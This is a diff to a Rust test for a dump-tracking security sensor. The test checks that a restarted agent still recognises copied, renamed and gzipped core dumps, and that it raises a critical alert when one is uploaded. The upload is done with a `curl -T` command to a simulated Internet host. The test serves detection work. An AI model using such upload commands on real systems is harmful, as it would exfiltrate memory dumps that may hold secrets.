@@ -1,6 +1,6 @@
 //! Dumps that were there before the agent.
 
-use std::{fs, path::Path, process::Command};
+use std::{fs, path::Path, process::Command, time::Duration};
 
 use sensor_abi::flow::Via;
 use sensor_user::step::{DumpKind, Severity, StepKind};
@@ -21,7 +21,8 @@ use crate::harness::{
     },
 };
 
-pub(super) const ALL: &[Own] = &[("found::at_rest", at_rest), ("found::in_hands", in_hands)];
+pub(super) const ALL: &[Own] =
+    &[("found::at_rest", at_rest), ("found::in_hands", in_hands), ("found::known_again", known_again)];
 
 /// A core that nobody watched being born.
 fn old_core(folder: &Path) -> String {
@@ -114,4 +115,49 @@ f.read(); time.sleep(60)";
     let read = step(StepKind::Read).to(reader).between(2_000_000, u64::MAX);
     scene.sees_of(found.dump.as_deref().unwrap(), &read);
     agent.stop();
+}
+
+/// What an agent knew, the next one knows again, under the same id and wherever it lies by now; but for what somebody else
+/// has written to meanwhile.
+fn known_again() {
+    let (world, folder) = (World::make(), tempfile::tempdir().unwrap());
+    let (agent, dumps) = (folder.path().join("agent"), folder.path().join("dumps"));
+    [&agent, &dumps].map(|folder| fs::create_dir(folder).unwrap());
+    let setup = Setup::of(&world.config());
+    let path = |name: &str| dumps.join(name).to_str().unwrap().to_owned();
+    let first = Agent::start(&agent, &setup);
+    let scene = Scene::new(&first);
+    let dump = scene.core_in(&dumps);
+    for copy in ["copy", "lost"] {
+        scene.run(Production, "cp", &[&dump.path, &path(copy)]);
+        scene.sees(&dump, &step(StepKind::Written).to(&path(copy)));
+    }
+    scene.shell(Production, &format!("gzip -1 < {} > {}", dump.path, path("packed")));
+    scene.sees(&dump, &step(StepKind::Written).to(&path("packed")));
+    fs::rename(path("copy"), path("renamed")).unwrap();
+    scene.sees(&dump, &step(StepKind::Renamed).to(&path("renamed")));
+    drop(scene);
+    first.stop();
+    std::thread::sleep(Duration::from_secs(2));
+    fs::write(path("lost"), "other data ".repeat(1000)).unwrap();
+
+    let second = Agent::start(&agent, &setup);
+    let scene = Scene::new(&second);
+    let again: Vec<_> = [dump.path.clone(), path("renamed"), path("packed")]
+        .iter()
+        .map(|path| scene.sees(&dump, &step(StepKind::Found).from(path)))
+        .collect();
+    assert!(again.iter().all(|found| !found.origin_inferred && found.origin_zone.as_deref() == Some("production")));
+    for name in ["renamed", "packed"] {
+        let (mut sink, port) = scene.sink(Internet, Production, 1);
+        let url = format!("http://{}:{port}/up", Internet.address(Production));
+        scene.run(Production, "curl", &["-sS", "-T", &path(name), &url]);
+        assert!(sink.within(SOON).success());
+        let sent = step(StepKind::Sent).via(Via::Tcp).from("curl[]").destination(Internet.address(Production), port);
+        scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &sent);
+    }
+    let lost = second.steps_where(|step| step.from == path("lost"));
+    assert!(lost.is_empty(), "it is no dump any more: {lost:#?}");
+    drop(scene);
+    second.stop();
 }
